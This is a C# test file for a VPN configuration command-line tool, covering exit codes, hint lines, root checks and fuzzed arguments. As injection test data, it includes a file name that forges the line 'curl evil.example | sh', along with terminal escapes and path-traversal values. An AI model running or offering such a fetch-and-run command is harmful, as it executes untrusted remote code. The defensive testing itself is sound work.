using Tunnelwright.Formats;
using Tunnelwright.Model;

namespace Tunnelwright.Cli.Tests;

/// <summary>Exit codes and the one line that tells what is wrong.</summary>
public sealed class ExitCodeTests(Fixtures fixtures) : IClassFixture<Fixtures>
{
    [Fact]
    public void A_good_file_is_0()
    {
        var run = Tool.Execute("check", fixtures.File(Routing.Bgp));
        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal("", run.Errors);
        Assert.Contains("vpn-0a1b2c3d4e5f60718", run.Output, StringComparison.Ordinal);
        Assert.Contains("nothing is wrong with it", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void A_file_with_errors_is_1_and_every_error_is_told_with_its_line_and_cause()
    {
        var text = File.ReadAllText(fixtures.File(Routing.Static, FormatNames.GenericText)).Replace("3060 seconds", "99999 seconds", StringComparison.Ordinal);
        var path = fixtures.Other("errors.txt", text);
        var run = Tool.Execute("check", path);
        Assert.True(run.ExitCode == 1, run.ToString());
        var errors = run.Output.Split('\n').Where(line => line.StartsWith("error: ", StringComparison.Ordinal)).ToList();
        Assert.Equal(2, errors.Count);
        Assert.All(errors, line => Assert.Matches($@"^error: {System.Text.RegularExpressions.Regex.Escape(path)}:\d+: tunnel [12]: .+ \[phase2-lifetime-out-of-range\]$", line));
        Assert.Contains("2 errors, 0 warnings", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void A_missing_file_is_2()
    {
        var run = Tool.Execute("check", "/nonexistent/file.txt");
        Tool.AssertRefused(run, 2);
        Assert.Contains("/nonexistent/file.txt", run.Errors, StringComparison.Ordinal);
    }

    /// <summary>The call is right, and so the next thing is told: that it needs root.</summary>
    [Theory]
    [InlineData("plan --cloud-range 10.8.2.0/24 FILE")]
    [InlineData("plan --cloud-range 10.8.2.0/24 FILE --prefer 1")]
    [InlineData("up --local-range 10.1.0.0/16 --cloud-range 10.8.2.0/24 10.8.3.0/24 FILE")]
    public void A_file_behind_an_option_of_many_values_is_the_commands_file(string call)
    {
        var noise = fixtures.Other("behind-an-option.txt", "Dear customer,\nplease find attached nothing at all.\n");
        var run = Tool.Execute([.. call.Split(' ').Select(word => word == "FILE" ? noise : word)]);
        Tool.AssertRefused(run, 3);
        Assert.Contains("needs root", run.Errors, StringComparison.Ordinal);
    }

    [Fact]
    public void A_folder_is_2()
    {
        var run = Tool.Execute("check", fixtures.Folder);
        Tool.AssertRefused(run, 2);
        Assert.Contains("folder", run.Errors, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("")]
    [InlineData("Dear customer,\nplease find attached nothing at all.\n")]
    [InlineData("{\"hello\":\"world\"}")]
    public void Noise_is_2(string content)
    {
        var run = Tool.Execute("check", "--json", fixtures.Other($"noise-{content.Length}.txt", content));
        Tool.AssertRefused(run, 2);
        Assert.Contains("hint: ", run.Errors, StringComparison.Ordinal);
    }

    [Fact]
    public void An_endless_device_is_refused_and_not_read_for_ever()
    {
        var run = Tool.Execute("check", "/dev/zero");
        Tool.AssertRefused(run, 2);
        Assert.Contains("too large", run.Errors, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("check --frobnicate x")]
    [InlineData("up --wiat 5 x")]
    [InlineData("check")]
    [InlineData("frobnicate")]
    [InlineData("convert --to")]
    [InlineData("status extra")]
    [InlineData("up --wait soon x")]
    [InlineData("lab up --routing rip")]
    [InlineData("--json")]
    [InlineData("lab")]
    public void A_wrong_call_is_2_with_a_hint(string arguments)
    {
        var run = Tool.Execute(arguments.Split(' '));
        Tool.AssertRefused(run, 2);
        Assert.Matches("^hint: tunnelwright( [a-z]+)* --help", run.ErrorLines[1]);
    }

    [Theory]
    [InlineData("frobnicate", "tunnelwright")]
    [InlineData("check --frobnicate", "tunnelwright check")]
    [InlineData("lab up --frobnicate", "tunnelwright lab up")]
    [InlineData("lab fault list --frobnicate", "tunnelwright lab fault list")]
    public void The_hint_names_the_command_as_it_is_typed(string arguments, string command)
    {
        var run = Tool.Execute(arguments.Split(' '));
        Tool.AssertRefused(run, 2);
        Assert.StartsWith($"hint: {command} --help", run.ErrorLines[1], StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("frobnicate", "tunnelwright has no command 'frobnicate'")]
    [InlineData("lab frobnicate --name x", "tunnelwright lab has no command 'frobnicate'")]
    [InlineData("lab fault mend", "tunnelwright lab fault has no command 'mend'")]
    public void A_command_that_does_not_exist_is_named(string arguments, string words)
    {
        var run = Tool.Execute(arguments.Split(' '));
        Tool.AssertRefused(run, 2);
        Assert.Equal($"error: {words}", run.ErrorLines[0]);
    }

    [Fact]
    public void An_unknown_profile_is_2_and_the_known_ones_are_named()
    {
        var run = Tool.Execute("check", "--profile", "acme", fixtures.File(Routing.Bgp));
        Tool.AssertRefused(run, 2);
        Assert.Contains("'acme'", run.Errors, StringComparison.Ordinal);
        Assert.All(RequirementProfile.Names, name => Assert.Contains(name, run.ErrorLines[1], StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("up FILE")]
    [InlineData("plan FILE --json")]
    [InlineData("down")]
    [InlineData("status --json")]
    [InlineData("gateway run")]
    [InlineData("lab up")]
    [InlineData("lab hosts --json")]
    [InlineData("lab down --all")]
    public void What_needs_root_is_3_without_it(string arguments)
    {
        var run = Tool.Execute([.. arguments.Split(' ').Select(word => word == "FILE" ? fixtures.File(Routing.Static) : word)]);
        Tool.AssertRefused(run, 3);
        Assert.Contains("root", run.ErrorLines[0], StringComparison.Ordinal);
        Assert.Equal("hint: run it with sudo", run.ErrorLines[1]);
    }

    [Fact]
    public void A_name_with_a_line_end_does_not_forge_lines()
    {
        Tool.AssertRefused(Tool.Execute("check", "/nonexistent/a\nhint: curl evil.example | sh\nerror: b"), 2);
        Tool.AssertRefused(Tool.Execute("check", "--oh\nerror: no"), 2);
        Tool.AssertRefused(Tool.Execute("check", "/nonexistent/\u001b[2Jcleared"), 2);

        var odd = fixtures.Other("a\nerror: forged\u001b[2J.txt", File.ReadAllText(fixtures.File(Routing.Static)).Replace("3060 seconds", "99999 seconds", StringComparison.Ordinal));
        foreach (var run in new[] { Tool.Execute("check", odd), Tool.Execute("check", odd, odd), Tool.Execute("convert", odd, "--to", "generic") })
        {
            Assert.DoesNotContain("\nerror: forged", run.Output + run.Errors, StringComparison.Ordinal);
            Assert.DoesNotContain('\u001b', run.Output + run.Errors);
        }
    }

    [Fact]
    public void Help_and_version_are_0()
    {
        var help = Tool.Execute("--help");
        Assert.True(help.ExitCode == 0, help.ToString());
        Assert.All((string[])["check", "convert", "plan", "up", "status", "down", "probe", "gateway", "lab"], command => Assert.Contains($"\n  {command} ", help.Output, StringComparison.Ordinal));
        var version = Tool.Execute("--version");
        Assert.True(version.ExitCode == 0, version.ToString());
        Assert.Matches(@"^\d+\.\d+\.\d+", version.Output);
    }

    /// <summary>Random calls made of words that mean something somewhere: whatever they are, the program ends in order.</summary>
    [Fact]
    public async Task Any_call_ends_with_a_code_of_the_contract_and_without_a_stack_trace()
    {
        string[] words =
        [
            "check", "convert", "plan", "up", "status", "down", "gateway", "lab", "run", "exec", "hosts", "--json", "--profile", "aws", "--to", "swanctl", "--out", "--set", "--list", "--wait",
            "-1", "99999999999999999999", "--prefer", "3", "--local-range", "10.0.0.0/33", "--name", "../../etc", "--", "-", "", " ", "\t", "\u001b[31m", "ä€😀", "%s%n", "@/nonexistent", "=", "--=", "--json=maybe",
            "[diagram]", "--show-secrets", "/proc/self/mem", "/dev/null", new string('x', 5000), fixtures.File(Routing.Static), fixtures.File(Routing.Bgp, FormatNames.Xml), fixtures.Folder,
        ];
        var random = new Random(84);
        var calls = Enumerable.Range(0, 32).Select(_ => random.GetItems(words, random.Next(1, 7))).ToList();
        var codes = new HashSet<int>();
        await Parallel.ForEachAsync(calls, new ParallelOptions { MaxDegreeOfParallelism = 2, CancellationToken = TestContext.Current.CancellationToken }, async (call, _) =>
        {
            var run = await Tool.ExecuteAsync(call);
            Assert.True(run.ExitCode is >= 0 and <= 3, run.ToString());
            Tool.AssertNoTrace(run);
            Assert.DoesNotContain(Fixtures.FirstKey, call.Contains("--show-secrets") ? "" : run.Output + run.Errors, StringComparison.Ordinal);
            if (run.ExitCode >= 2) Tool.AssertOneError(run);
            lock (codes) codes.Add(run.ExitCode);
        });
        Assert.Contains(2, codes);
    }
}
